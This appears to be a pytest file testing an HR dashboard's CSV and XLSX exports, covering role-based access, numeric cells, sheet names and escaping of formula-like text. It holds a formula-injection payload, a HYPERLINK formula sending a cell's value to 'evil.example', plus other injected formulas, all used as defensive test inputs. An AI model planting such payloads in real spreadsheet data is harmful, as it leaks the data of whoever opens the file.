"""Exports: the HR dashboard's tables and a cycle's results as CSV and XLSX."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from engine.base.errors import NotAllowed
from engine.base.models import Person, ProcessDefinition
from engine.performance.exports import Table, as_csv, as_xlsx, cycle_results, dashboard_tables
from engine.performance.hr_dashboard import hr_dashboard
from tests.engine.test_dashboards import (
    Org,
    build_org,
    cycle_with_progress,
    new_cycle,
    record,
    start,
)


@pytest.fixture
async def org(db: str) -> Org:
    """The shared org chart (tests/engine/test_dashboards.py)."""
    return await build_org()


async def results_cycle(org: Org) -> int:
    cycle = await cycle_with_progress(org)
    await record(org, cycle, "D1", "kpi_results", {"objectives": [], "weighted_score": 3.25})
    return cycle


async def test_cycle_results_have_one_row_per_employee_with_numbers_as_numbers(org):
    cycle = await results_cycle(org)
    table = await cycle_results(cycle, org.viewer("HA"))
    assert table.columns == ["Employee id", "Name", "Unit", "Manager", "Objective setting",
                             "Year-end appraisal", "Final rating", "Rating label",
                             "Weighted score"]
    rows = {row[0]: row for row in table.rows}
    assert set(rows) == {"D1", "D2", "R1", "EM", "SM"}
    assert rows["D1"] == ["D1", "Dora Dev", "Engineering", "Emil Engman", "completed",
                          "running", 3, "", 3.25]
    assert rows["SM"][5:7] == ["error", None]  # a rating that is not a number stays empty


async def test_an_hr_partner_exports_only_their_population_and_others_nothing(org):
    cycle = await results_cycle(org)
    table = await cycle_results(cycle, org.viewer("HP"))
    assert sorted(row[0] for row in table.rows) == ["D1", "D2", "EM"]
    for key in ("EM", "D1"):
        with pytest.raises(NotAllowed):
            await cycle_results(cycle, org.viewer(key))


async def test_the_xlsx_has_a_bold_header_and_numeric_cells_per_sheet(org):
    cycle = await results_cycle(org)
    tables = dashboard_tables(await hr_dashboard(cycle, org.viewer("HA")))
    tables.append(await cycle_results(cycle, org.viewer("HA")))
    book = load_workbook(io.BytesIO(as_xlsx(tables)))
    assert book.sheetnames == ["Funnel", "Overdue", "Calibration", "Errors", "2026"]

    results = book["2026"]
    assert results["A1"].value == "Employee id" and results["A1"].font.bold
    dora = next(row for row in results.iter_rows(min_row=2) if row[0].value == "D1")
    assert dora[6].value == 3 and dora[6].data_type == "n"
    assert dora[8].value == 3.25 and dora[8].data_type == "n"
    assert results.column_dimensions["B"].width >= len("Sara Salesman")

    overdue = book["Overdue"]
    assert [c.value for c in overdue[2]] == ["Year-end appraisal", "Self-appraisal", 2, 2]
    calibration = book["Calibration"]
    first = [c.value for c in calibration[2]]
    assert first[:5] == ["organisation", 3, 5, "Outstanding", 1]
    assert first[6] == 10  # the guideline share, a number
    errors = book["Errors"]
    assert errors["E2"].value == "unknown measure_type 'faster'"


async def test_a_name_that_looks_like_a_formula_is_exported_as_text(org):
    cycle = await new_cycle()
    await Person.filter(key="R1").update(name="=HYPERLINK(\"http://x\")")
    from engine.people.directory import bump_directory_version

    await bump_directory_version()
    await start(org, cycle, "R1")
    table = await cycle_results(cycle, org.viewer("HA"))
    book = load_workbook(io.BytesIO(as_xlsx([table])))
    cell = book.active["B2"]
    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK")
    (row,) = list(csv.reader(io.StringIO(as_csv(table))))[1:]
    assert row[1].startswith("'=")


def test_csv_keeps_numbers_plain_and_blanks_empty():
    table = Table("t", ["name", "score", "missing"], [["Dora", 3.5, None], ["-5 days", 2, 0]])
    lines = as_csv(table).splitlines()
    assert lines == ["name,score,missing", "Dora,3.5,", "'-5 days,2,0"]


def test_sheet_names_are_made_valid_and_unique():
    book = load_workbook(io.BytesIO(as_xlsx([
        Table("2026/27 results: all", ["a"]), Table("2026/27 results: all", ["a"])])))
    assert book.sheetnames == ["2026_27 results_ all", "2026_27 results_ all (2)"]


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'


def formulas_in(book) -> list[str]:
    """Every cell of the workbook a spreadsheet would run (or show as an error value)."""
    return [f"{sheet.title}!{cell.coordinate}" for sheet in book.worksheets
            for row in sheet.iter_rows() for cell in row if cell.data_type in ("f", "e")]


async def test_a_process_title_that_looks_like_a_formula_is_a_text_header(org):
    # Process titles come from a pack's pack.toml: whoever writes the pack writes the header.
    await ProcessDefinition.filter(process_id="objective_setting").update(title=FORMULA)
    cycle = await results_cycle(org)
    table = await cycle_results(cycle, org.viewer("HA"))

    book = load_workbook(io.BytesIO(as_xlsx([table])))
    header = {cell.value: cell for cell in book.active[1]}
    assert header[FORMULA].data_type == "s" and header[FORMULA].font.bold
    assert formulas_in(book) == []

    header_row = next(csv.reader(io.StringIO(as_csv(table))))
    assert "'" + FORMULA in header_row and FORMULA not in header_row


async def test_no_text_anywhere_in_the_workbook_becomes_a_formula(org):
    from engine.base.models import OrgUnit
    from engine.people.directory import bump_directory_version

    await ProcessDefinition.filter(process_id="year_end_appraisal").update(title="@SUM(1)")
    await OrgUnit.filter(code="ENG").update(name=FORMULA)
    await Person.filter(key="EM").update(name="#N/A")
    await bump_directory_version()
    cycle = await results_cycle(org)
    tables = [await cycle_results(cycle, org.viewer("HA")),
              *dashboard_tables(await hr_dashboard(cycle, org.viewer("HA")))]
    book = load_workbook(io.BytesIO(as_xlsx(tables)))

    assert formulas_in(book) == []
    values = {cell.value for sheet in book.worksheets for row in sheet.iter_rows()
              for cell in row}
    # The text is kept as it is, so HR reads what the directory and the pack say.
    assert {FORMULA, "@SUM(1)", "#N/A"} <= values
    for line in csv.reader(io.StringIO(as_csv(tables[0]))):
        assert not any(field.startswith(("=", "+", "@")) for field in line), line


def test_csv_escapes_a_formula_behind_blanks_and_in_the_header():
    table = Table("t", ["=1+1", "  +1", "Plain", "\t@x"], [[" =2+2", "-", "a-b", 1]])
    header, row = list(csv.reader(io.StringIO(as_csv(table))))
    assert header == ["'=1+1", "'  +1", "Plain", "'\t@x"]
    assert row == ["' =2+2", "'-", "a-b", "1"]


def test_sheet_names_are_what_excel_accepts():
    book = load_workbook(io.BytesIO(as_xlsx([
        Table("'Quoted'", ["a"]), Table("History", ["a"]), Table("bell\x07 and\x1b esc", ["a"]),
        Table("'''", ["a"]),
    ])))
    assert book.sheetnames == ["Quoted", "History (2)", "bell and esc", "Sheet"]


def test_control_characters_from_the_directory_do_not_break_the_workbook():
    table = Table("t", ["Na\x00me"], [["Dora\x0bDev"], ["line\nbreak\ttab"]])
    sheet = load_workbook(io.BytesIO(as_xlsx([table]))).active
    assert [c.value for c in sheet["A"]] == ["Name", "DoraDev", "line\nbreak\ttab"]
